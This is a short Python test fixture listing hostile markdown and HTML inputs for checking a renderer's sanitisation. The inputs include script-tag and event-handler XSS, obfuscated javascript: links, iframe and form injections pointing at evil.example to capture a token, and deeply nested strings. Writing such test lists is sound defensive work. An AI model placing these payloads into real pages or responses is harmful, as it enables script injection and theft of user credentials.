"""Answers that try to run a script, to load something, or to break out of the page that shows them."""

from __future__ import annotations

EVIL = [
    "<script>window.__x = 1</script>",
    "<img src=x onerror=window.__x=1>",
    "[click](javascript:window.__x=1)",
    "[click](JaVaScRiPt:window.__x=1)",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    '![x](data:image/png;base64,AAAA"onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>',
    "<iframe src=//evil.example></iframe><style>*{display:none}</style><base href=//evil.example>",
    "</div></section></main><form action=//evil.example><input name=token>",
    '[a](https://x.example "\\" onmouseover=alert(1) \\"")',
    "| a |\n|:-:|\n| <svg onload=alert(1)> |",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "\x00<scr\x00ipt>alert(1)</script>",
    "> " * 200 + "deep",
    "[" * 500 + "](" * 500,
    "*" * 500 + "a" + "_" * 500,
]
